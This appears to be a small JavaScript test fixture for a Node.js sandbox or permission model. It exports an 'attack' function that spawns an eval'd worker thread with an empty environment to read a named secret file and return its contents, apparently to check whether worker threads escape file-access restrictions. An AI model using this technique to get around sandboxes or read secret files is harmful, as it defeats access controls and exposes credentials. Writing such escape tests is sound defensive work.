import { Worker } from "node:worker_threads";

/** Reads outside from another thread. */
export function attack({ secretFile }) {
  const script = `require("worker_threads").parentPort.postMessage(require("fs").readFileSync(${JSON.stringify(secretFile)}, "utf8"))`;
  return new Promise((resolve, reject) => {
    const worker = new Worker(script, { eval: true, execArgv: [], env: {} });
    worker.once("message", resolve);
    worker.once("error", reject);
  });
}
